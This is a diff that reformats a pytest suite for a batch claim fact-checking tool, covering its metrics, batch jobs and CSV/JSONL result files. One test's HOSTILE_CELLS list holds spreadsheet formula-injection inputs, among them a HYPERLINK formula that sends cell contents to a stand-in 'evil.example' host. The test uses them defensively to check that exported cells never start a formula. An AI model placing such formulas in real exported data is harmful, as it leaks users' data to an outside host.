@@ -40,8 +40,11 @@ def test_an_unlabelled_batch_checks_every_claim_with_progress_and_has_no_metrics
 
 
 def test_a_labelled_batch_without_evidence_has_label_accuracy_but_no_fever_score(checker):
-    claims = read_claim_list("claim,label\nFox 2000 Pictures released the film Soul Food.,SUPPORTS\n"
-                             "Jaws is a film by Steven Spielberg.,REFUTES\nEdinburgh has a famous castle.,\n", "c.csv")
+    claims = read_claim_list(
+        "claim,label\nFox 2000 Pictures released the film Soul Food.,SUPPORTS\n"
+        "Jaws is a film by Steven Spielberg.,REFUTES\nEdinburgh has a famous castle.,\n",
+        "c.csv",
+    )
     report = run_batch(checker, claims)
     labelled = [row for row in report.rows if row.claim.label]
     accuracy = sum(row.verdict == row.claim.label for row in labelled) / len(labelled)
@@ -62,15 +65,36 @@ def claim(label, evidence=()):
 GOLD_EVIDENCE = [[[1, 1, "Paris", 0]]]
 
 
-@pytest.mark.parametrize("claims, missing", [
-    ([claim(None)], {"label_accuracy": NEEDS_LABELS, "fever_score": NEEDS_LABELS, "evidence_recall": NEEDS_LABELS}),
-    ([claim(SUPPORTS), claim(None)], {"label_accuracy": "", "fever_score": NEEDS_EVIDENCE,
-                                      "evidence_recall": NEEDS_EVIDENCE, "doc_recall_at_5": NEEDS_EVIDENCE}),
-    ([claim(NEI, [[[5, None, None, None]]])], {"label_accuracy": "", "fever_score": "", "evidence_recall": NEEDS_EVIDENCE}),
-    ([claim(SUPPORTS, GOLD_EVIDENCE), claim(REFUTES)], {"fever_score": NEEDS_EVIDENCE}),
-    ([claim(SUPPORTS, GOLD_EVIDENCE), claim(NEI)], {"label_accuracy": "", "fever_score": "", "evidence_f1": "",
-                                                     "sentence_recall_at_5": "", "latency_p50_s": ""}),
-])
+@pytest.mark.parametrize(
+    "claims, missing",
+    [
+        ([claim(None)], {"label_accuracy": NEEDS_LABELS, "fever_score": NEEDS_LABELS, "evidence_recall": NEEDS_LABELS}),
+        (
+            [claim(SUPPORTS), claim(None)],
+            {
+                "label_accuracy": "",
+                "fever_score": NEEDS_EVIDENCE,
+                "evidence_recall": NEEDS_EVIDENCE,
+                "doc_recall_at_5": NEEDS_EVIDENCE,
+            },
+        ),
+        (
+            [claim(NEI, [[[5, None, None, None]]])],
+            {"label_accuracy": "", "fever_score": "", "evidence_recall": NEEDS_EVIDENCE},
+        ),
+        ([claim(SUPPORTS, GOLD_EVIDENCE), claim(REFUTES)], {"fever_score": NEEDS_EVIDENCE}),
+        (
+            [claim(SUPPORTS, GOLD_EVIDENCE), claim(NEI)],
+            {
+                "label_accuracy": "",
+                "fever_score": "",
+                "evidence_f1": "",
+                "sentence_recall_at_5": "",
+                "latency_p50_s": "",
+            },
+        ),
+    ],
+)
 def test_gold_data_allows_only_the_metrics_it_can_score(claims, missing):
     gold = GoldData.of(claims)
     assert {metric: gold.missing_for(metric) for metric in missing} == missing
@@ -94,8 +118,13 @@ def test_a_batch_job_runs_in_its_own_thread_and_can_be_stopped(checker):
 
 def test_a_claim_whose_check_fails_is_a_row_with_its_error_and_the_batch_goes_on(checker, monkeypatch):
     real = checker.check
-    monkeypatch.setattr(checker, "check", lambda claim, *args: (_ for _ in ()).throw(RuntimeError("index gone"))
-                        if claim.startswith("Jaws") else real(claim, *args))
+    monkeypatch.setattr(
+        checker,
+        "check",
+        lambda claim, *args: (
+            (_ for _ in ()).throw(RuntimeError("index gone")) if claim.startswith("Jaws") else real(claim, *args)
+        ),
+    )
     job = BatchJob(read_claim_list(SPEECH)).start(checker)
     job.wait(60)
     assert job.error == "" and not job.report.stopped and job.done == 3
@@ -122,15 +151,24 @@ def test_results_are_written_as_a_csv_table_or_fever_predictions(checker, tmp_pa
     write_rows(rows, tmp_path / "out.jsonl")
     lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
     assert (tmp_path / "out.jsonl").read_text() == predictions_jsonl(rows)
-    assert [list(line) for line in lines] == [["id", "claim", "predicted_label", "predicted_evidence", "undecided"]] * 2 + [
-        ["id", "claim", "predicted_label", "predicted_evidence", "error"]]  # the claim that can't be checked says why
+    assert [list(line) for line in lines] == [
+        ["id", "claim", "predicted_label", "predicted_evidence", "undecided"]
+    ] * 2 + [
+        ["id", "claim", "predicted_label", "predicted_evidence", "error"]
+    ]  # the claim that can't be checked says why
     assert "no words" in lines[2]["error"]
     with pytest.raises(ValueError, match=r"\.csv .* \.jsonl"):
         ResultsFile(tmp_path / "out.txt", [])
 
 
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
-                 "\r=1+1"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_no_cell_of_a_results_table_starts_a_formula(checker, tmp_path):
@@ -148,34 +186,79 @@ def test_a_batch_stopped_midway_keeps_the_rows_it_finished(settings, workspace, 
     claims = tmp_path / "speech.txt"
     claims.write_text(SPEECH)
     real = Checker.check
-    monkeypatch.setattr(Checker, "check", lambda self, claim, *args: (_ for _ in ()).throw(KeyboardInterrupt)
-                        if claim.startswith("🙂") else real(self, claim, *args))  # Ctrl-C at the third claim
+    monkeypatch.setattr(
+        Checker,
+        "check",
+        lambda self, claim, *args: (
+            (_ for _ in ()).throw(KeyboardInterrupt) if claim.startswith("🙂") else real(self, claim, *args)
+        ),
+    )  # Ctrl-C at the third claim
     out = tmp_path / "results.jsonl"
     with pytest.raises(KeyboardInterrupt):
-        main(["--data-dir", str(settings.data_dir), "check-batch", str(claims), "--corpus", "fixture",
-              "--model", str(tiny_nli_model), "--out", str(out)])
+        main(
+            [
+                "--data-dir",
+                str(settings.data_dir),
+                "check-batch",
+                str(claims),
+                "--corpus",
+                "fixture",
+                "--model",
+                str(tiny_nli_model),
+                "--out",
+                str(out),
+            ]
+        )
     assert [json.loads(line)["claim"] for line in out.read_text().splitlines()] == SPEECH.splitlines()[:2]
 
 
 def test_a_lone_surrogate_in_a_claim_list_costs_no_result(settings, workspace, tiny_nli_model, tmp_path, capsys):
     claims = tmp_path / "claims.jsonl"
-    claims.write_text('{"claim": "Fox 2000 Pictures released the film Soul \\ud800Food."}\n'
-                      '{"claim": "Jaws is a film by Steven \\udfffSpielberg."}\n')
+    claims.write_text(
+        '{"claim": "Fox 2000 Pictures released the film Soul \\ud800Food."}\n'
+        '{"claim": "Jaws is a film by Steven \\udfffSpielberg."}\n'
+    )
     out = tmp_path / "results.csv"
-    assert main(["--data-dir", str(settings.data_dir), "check-batch", str(claims), "--corpus", "fixture",
-                 "--model", str(tiny_nli_model), "--out", str(out)]) == 0
+    assert (
+        main(
+            [
+                "--data-dir",
+                str(settings.data_dir),
+                "check-batch",
+                str(claims),
+                "--corpus",
+                "fixture",
+                "--model",
+                str(tiny_nli_model),
+                "--out",
+                str(out),
+            ]
+        )
+        == 0
+    )
     table = list(csv.DictReader(out.open(encoding="utf-8")))
-    assert [row["claim"] for row in table] == ["Fox 2000 Pictures released the film Soul Food.",
-                                               "Jaws is a film by Steven Spielberg."]
+    assert [row["claim"] for row in table] == [
+        "Fox 2000 Pictures released the film Soul Food.",
+        "Jaws is a film by Steven Spielberg.",
+    ]
     assert all(row["verdict"] for row in table)
 
 
-def test_check_batch_command_prints_each_verdict_and_only_the_metrics_it_can(settings, workspace, tiny_nli_model,
-                                                                            tmp_path, capsys):
+def test_check_batch_command_prints_each_verdict_and_only_the_metrics_it_can(
+    settings, workspace, tiny_nli_model, tmp_path, capsys
+):
     claims = tmp_path / "speech.txt"
     claims.write_text(SPEECH)
     out = tmp_path / "results.csv"
-    options = ["--data-dir", str(settings.data_dir), "check-batch", "--corpus", "fixture", "--model", str(tiny_nli_model)]
+    options = [
+        "--data-dir",
+        str(settings.data_dir),
+        "check-batch",
+        "--corpus",
+        "fixture",
+        "--model",
+        str(tiny_nli_model),
+    ]
     assert main([*options, str(claims), "--out", str(out)]) == 0
     printed = capsys.readouterr().out.splitlines()
     assert printed[2].startswith("ERROR") and "no words or numbers" in printed[2]
@@ -193,7 +276,6 @@ def test_check_batch_refuses_an_output_it_cant_write_before_checking(tmp_path, c
     claims.write_text(SPEECH)
     assert main(["check-batch", str(claims), "--corpus", "nothing", "--out", str(tmp_path / "out.xlsx")]) == 2
     assert "give a .csv" in capsys.readouterr().err
-
 
 
 def test_a_batch_reports_its_latency_over_the_claims_it_checked(checker):
